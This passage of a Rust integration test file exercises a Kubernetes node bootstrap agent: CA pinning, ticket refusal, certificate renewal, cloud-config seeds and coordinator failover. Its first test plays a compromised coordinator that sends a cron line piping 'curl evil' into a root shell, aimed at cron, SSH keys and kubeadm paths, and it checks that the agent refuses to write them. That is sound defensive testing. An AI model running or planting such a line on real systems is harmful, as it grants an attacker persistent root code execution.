    let file = |path: &str, content: &str| BundleFile {
        path: path.into(),
        mode: 0o777,
        content: content.into(),
    };
    let evil = |path: &str| file(path, "* * * * * root curl evil | sh\n");
    // Signed with the coordinator CA key, as a compromised coordinator would.
    let (mut fake, m) = assigned_machine(MachineRole::Worker, 2, |s| {
        s.config_mode = 0o777;
        s.extra_files = vec![
            evil("/etc/cron.d/drover"),
            evil("/root/.ssh/authorized_keys"),
            evil("/usr/bin/kubeadm"),
        ];
    })
    .await;
    let mut agent = m.spawn(1, true, &[]);
    let failure = fake.failed_at("write-files").await;
    assert!(
        failure
            .output_tail
            .iter()
            .any(|l| l.contains("/etc/cron.d/drover") && l.contains("refused")),
        "the report names the refused path: {failure:?}"
    );
    // Nothing was written, kubeadm never ran.
    for p in [
        "etc/cron.d",
        "root/.ssh",
        "usr/bin/kubeadm",
        "etc/drover/kubeadm.yaml",
    ] {
        assert!(!m.root.join(p).exists(), "{p} was written");
    }
    assert!(m.kubeadm_calls().is_empty());
    stop_cleanly(&mut agent).await;

    // The allowed files alone: written with the agent's modes, not the 0777 asked.
    fake.set(|s| {
        s.extra_files = vec![
            file("/etc/kubernetes/pki/ca.key", "key\n"),
            file("/etc/kubernetes/pki/ca.crt", "cert\n"),
        ];
        s.assignment = assigned("demo", MachineRole::ControlPlane, 3);
    });
    let mut agent = m.spawn(2, false, &[]);
    fake.running_at(3).await;
    assert_eq!(mode(&m.kubeadm_config_given()), 0o600);
    assert_eq!(mode(&m.root.join("etc/kubernetes/pki/ca.key")), 0o600);
    assert_eq!(mode(&m.root.join("etc/kubernetes/pki/ca.crt")), 0o644);
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn short_lived_certificate_is_renewed() {
    let (mut fake, pin) = start_fake_with_new_ca().await;
    // Valid from 5 minutes in the past (the PKI helper backdates) to 1 minute
    // ahead: two thirds of its life are over, so it is renewed at once.
    fake.set(|s| s.client_validity = time::Duration::minutes(1));
    let m = Machine::new(fake.addr, &pin, TICKET);
    let mut agent = m.spawn(1, true, &[]);
    wait_until("renewed", || fake.get(|s| s.renewals) > 0).await;
    // Heartbeats keep working with the renewed certificate.
    let _ = fake.heartbeat_where("after renewal", |_| true).await;
    let _ = fake.heartbeat_where("after renewal", |_| true).await;
    let state = m.state();
    let not_after = time::OffsetDateTime::parse(
        state["certificateNotAfter"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )
    .unwrap();
    assert!(not_after > drover_common::now() + time::Duration::minutes(30));
    assert_eq!(fake.get(|s| s.renewals), 1);
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn wrong_pin_is_refused_with_a_clear_message() {
    let (ca, real) = new_ca();
    let other = CertificateAuthority::generate("not-the-coordinator").unwrap();
    let pinned = CaPin::from_cert_pem(&other.cert_pem).unwrap();
    let fake = start_fake(ca).await;
    let m = Machine::new(fake.addr, &pinned, TICKET);
    let mut agent = m.spawn(1, true, &[]);
    assert_eq!(exit_code(&mut agent).await, 2);
    let log = m.stderr(1);
    assert!(
        log.contains(&format!(
            "the coordinator's CA does not match the pinned {pinned}"
        )),
        "{log}"
    );
    assert!(log.contains(&real.to_string()), "{log}");
    assert_eq!(fake.get(|s| s.registrations), 0);
}

#[tokio::test]
async fn refused_ticket_exits_2_with_the_problem() {
    let (fake, pin) = start_fake_with_new_ca().await;
    let m = Machine::new(fake.addr, &pin, "forged-ticket");
    let mut agent = m.spawn(1, true, &[]);
    assert_eq!(exit_code(&mut agent).await, 2);
    let log = m.stderr(1);
    assert!(log.contains("Ticket refused"), "{log}");
    assert!(
        log.contains("the ticket signature does not verify"),
        "{log}"
    );
    assert!(!m.root.join("var/lib/drover-agent/state.json").exists());
}

#[tokio::test]
async fn usage_errors_exit_64() {
    let (_, pin) = new_ca();
    let m = Machine::new("127.0.0.1:1".parse().unwrap(), &pin, TICKET);

    // No state, no bootstrap document, no NoCloud seed: every place looked
    // at is named.
    let mut agent = m.spawn(1, false, &[]);
    assert_eq!(exit_code(&mut agent).await, 64);
    let stderr = m.stderr(1);
    assert!(stderr.contains("no bootstrap document"), "{stderr}");
    assert!(stderr.contains("--bootstrap FILE (not given)"), "{stderr}");
    assert!(stderr.contains("state.json"), "{stderr}");
    assert!(
        stderr.contains(&m.nocloud_dir().join("user-data").display().to_string()),
        "{stderr}"
    );

    // A #cloud-config seed without the drover_bootstrap key.
    std::fs::create_dir_all(m.nocloud_dir()).unwrap();
    std::fs::write(
        m.nocloud_dir().join("user-data"),
        "#cloud-config\nhostname: x\n",
    )
    .unwrap();
    let mut agent = m.spawn(3, false, &[]);
    assert_eq!(exit_code(&mut agent).await, 64);
    m.assert_logged(3, "invalid NoCloud user data");
    std::fs::remove_file(m.nocloud_dir().join("user-data")).unwrap();

    // An invalid bootstrap document.
    std::fs::write(
        &m.bootstrap,
        "apiVersion: drover.dev/v1alpha1\nkind: BootstrapConfig\ncoordinators: []\n",
    )
    .unwrap();
    let mut agent = m.spawn(2, true, &[]);
    assert_eq!(exit_code(&mut agent).await, 64);
    m.assert_logged(2, "invalid bootstrap document");

    // A bad flag.
    let status = tokio::process::Command::new(env!("CARGO_BIN_EXE_drover-agent"))
        .env("AWS_EC2_METADATA_DISABLED", "true")
        .args(["--log-format", "xml"])
        .stderr(Stdio::null())
        .status()
        .await
        .unwrap();
    assert_eq!(status.code(), Some(64));
}

#[tokio::test]
async fn registers_from_a_nocloud_cloud_config_seed() {
    let (mut fake, pin) = start_fake_with_new_ca().await;
    let m = Machine::new(fake.addr, &pin, TICKET);
    // The bootstrap document as the drover_bootstrap key of a #cloud-config,
    // no --bootstrap flag.
    let doc = std::fs::read_to_string(&m.bootstrap).unwrap();
    let indented: String = doc.lines().map(|l| format!("  {l}\n")).collect();
    std::fs::create_dir_all(m.nocloud_dir()).unwrap();
    std::fs::write(
        m.nocloud_dir().join("user-data"),
        format!("#cloud-config\npackage_update: false\ndrover_bootstrap: |\n{indented}"),
    )
    .unwrap();
    let mut agent = m.spawn(1, false, &[]);
    fake.in_phase(AgentPhase::Waiting).await;
    assert_eq!(fake.get(|s| s.registrations), 1);
    assert!(m.root.join("var/lib/drover-agent/state.json").exists());
    m.assert_logged(1, "read the bootstrap document from the NoCloud seed");

    // A restart resumes from the saved state; the seed (single-use ticket)
    // is not read again.
    stop_cleanly(&mut agent).await;
    let mut agent = m.spawn(2, false, &[]);
    fake.in_phase(AgentPhase::Waiting).await;
    assert_eq!(fake.get(|s| s.registrations), 1);
    assert!(!m.stderr(2).contains("NoCloud"), "{}", m.stderr(2));
    stop_cleanly(&mut agent).await;
}

/// Starts an agent that refuses machine customisation and waits for its
/// bootstrap to fail at writing files, returning the agent and the
/// failure's output tail.
async fn refused_customisation(fake: &mut Fake, m: &Machine) -> (tokio::process::Child, String) {
    let agent = m.spawn_with_args(1, true, &[], &["--refuse-machine-customisation"]);
    let tail = fake.failed_at("write-files").await.output_tail.join("\n");
    (agent, tail)
}

#[tokio::test]
async fn an_agent_that_refuses_customisation_writes_and_runs_nothing() {
    let (mut fake, m) = assigned_machine(MachineRole::Worker, 1, |s| {
        s.machine_files = machine_files(&[("/etc/fine.conf", 0o644, "x")]);
        s.pre_commands = vec!["echo ran >> \"$DROVER_ROOT/ran\"".into()];
    })
    .await;
    let (mut agent, tail) = refused_customisation(&mut fake, &m).await;
    assert!(tail.contains("--refuse-machine-customisation"), "{tail}");
    assert!(!m.root.join("etc/fine.conf").exists() && !m.root.join("ran").exists());
    m.assert_kubeadm_never_ran();
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn an_agent_that_refuses_customisation_refuses_a_cluster_with_addons() {
    let (mut fake, m) = assigned_machine(MachineRole::Init, 1, |s| {
        s.addons = vec!["monitoring".into()];
    })
    .await;
    let (mut agent, tail) = refused_customisation(&mut fake, &m).await;
    assert!(
        tail.contains("1 addons (monitoring)") && tail.contains("--refuse-machine-customisation"),
        "{tail}"
    );
    m.assert_kubeadm_never_ran();

    // An addon's manifests sent later are refused too, and nothing is
    // applied.
    let hb = fake
        .directive(
            "addon-1",
            DirectiveAction::ApplyManifests {
                addon: "monitoring".into(),
                manifests: "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: x\n".into(),
            },
        )
        .await;
    let result = result_of(&hb, "addon-1");
    assert!(!result.ok, "{result:?}");
    assert!(
        result.message.contains("--refuse-machine-customisation"),
        "{result:?}"
    );
    stop_cleanly(&mut agent).await;
}

/// The coordinator URLs in the machine's state file.
fn saved_coordinators(m: &Machine) -> Vec<String> {
    serde_json::from_value(m.state()["coordinators"].clone()).unwrap()
}

/// Waits until the agent's log of run `run` contains `text`.
async fn log_shows(m: &Machine, run: u32, text: &str) {
    wait_until(&format!("no {text:?} in the log of run {run}"), || {
        m.stderr(run).contains(text)
    })
    .await;
}

#[tokio::test]
async fn coordinators_named_by_a_heartbeat_answer_replace_the_list_and_survive_a_restart() {
    let (ca, pin) = new_ca();
    let mut a = start_fake(ca.clone()).await;
    let mut b = start_fake(ca).await;
    let (a_url, b_url) = (
        format!("https://127.0.0.1:{}", a.addr.port()),
        format!("https://127.0.0.1:{}", b.addr.port()),
    );
    let m = Machine::new(a.addr, &pin, TICKET);
    let boot = vec!["https://127.0.0.1:1".to_owned(), a_url.clone()];
    let mut agent = m.spawn(1, true, &[]);

    // An answer without a list changes nothing; heartbeats report the
    // digest of the bootstrap document's list.
    for _ in 0..2 {
        let hb = a.in_phase(AgentPhase::Waiting).await;
        assert_eq!(hb.coordinators_digest, Some(coordinators_digest(&boot)));
    }
    assert_eq!(saved_coordinators(&m), boot);

    // The coordinator names replica B too: the list is replaced, saved,
    // and reported from the next heartbeat on.
    let new = vec![a_url.clone(), format!("{b_url}/")];
    a.set(|s| s.coordinators = Some(new.clone()));
    a.heartbeat_where("with the new list's digest", |h| {
        h.coordinators_digest == Some(coordinators_digest(&new))
    })
    .await;
    assert_eq!(saved_coordinators(&m), [a_url.clone(), b_url.clone()]);
    log_shows(&m, 1, "the coordinator replicas changed").await;

    // A cannot serve (503): the very next heartbeat goes to B, which the
    // bootstrap document never named.
    a.set(|s| s.refuse_with = Some(StatusCode::SERVICE_UNAVAILABLE));
    b.heartbeat_where("through B", |_| true).await;

    // Restarted, the agent still knows B: A (a follower now, 421) sends
    // it on.
    stop_cleanly(&mut agent).await;
    a.set(|s| s.refuse_with = Some(StatusCode::MISDIRECTED_REQUEST));
    let mut agent = m.spawn(2, false, &[]);
    let hb = b
        .heartbeat_where("through B after the restart", |h| {
            h.kubeadm_version.is_some()
        })
        .await;
    assert_eq!(
        hb.coordinators_digest,
        Some(coordinators_digest(&[a_url, b_url]))
    );
    assert_eq!(a.get(|s| s.registrations) + b.get(|s| s.registrations), 1);
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn an_invalid_coordinator_list_is_refused_logged_once_and_the_old_one_kept() {
    let (mut fake, pin) = start_fake_with_new_ca().await;
    let m = Machine::new(fake.addr, &pin, TICKET);
    let boot = vec![
        "https://127.0.0.1:1".to_owned(),
        format!("https://127.0.0.1:{}", fake.addr.port()),
    ];
    let mut agent = m.spawn(1, true, &[]);
    fake.in_phase(AgentPhase::Waiting).await;
    fake.set(|s| s.coordinators = Some(vec!["http://127.0.0.1:2".into()]));
    log_shows(&m, 1, "invalid list of coordinator URLs").await;
    // Answered with it again at every heartbeat: still the old list.
    for _ in 0..3 {
        let hb = fake.heartbeat_where("any", |_| true).await;
        assert_eq!(hb.coordinators_digest, Some(coordinators_digest(&boot)));
    }
    assert_eq!(saved_coordinators(&m), boot);
    assert_eq!(
        m.stderr(1)
            .matches("invalid list of coordinator URLs")
            .count(),
        1,
        "{}",
        m.stderr(1)
    );
    stop_cleanly(&mut agent).await;
}
